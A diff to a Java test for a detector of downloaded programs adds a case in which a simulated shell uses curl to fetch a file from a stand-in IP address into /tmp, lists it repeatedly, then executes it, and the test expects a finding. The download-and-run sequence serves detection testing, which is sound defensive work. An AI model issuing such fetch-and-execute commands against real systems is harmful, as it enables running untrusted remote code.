@@ -217,4 +217,13 @@ final class DownloadedProgramDetectorTest implements DetectorContract {
         shell.starts("/srv/app/server", "server", "--settings", "/tmp/settings");
         assertThatFindings(findings()).areNone();
     }
+
+    @Test
+    void inspect_manyThingsDoneToItInBetween_isFound() {
+        Scene.Actor shell = scene.starts("/bin/sh", "sh");
+        shell.starts("/usr/bin/curl", "curl", "-o", "/tmp/k", "http://203.0.113.9/k");
+        for (int i = 0; i < 20; i++) shell.starts("/bin/ls", "ls", "/tmp/k");
+        shell.starts("/tmp/k", "/tmp/k");
+        assertThatFindings(findings()).show(ID);
+    }
 }
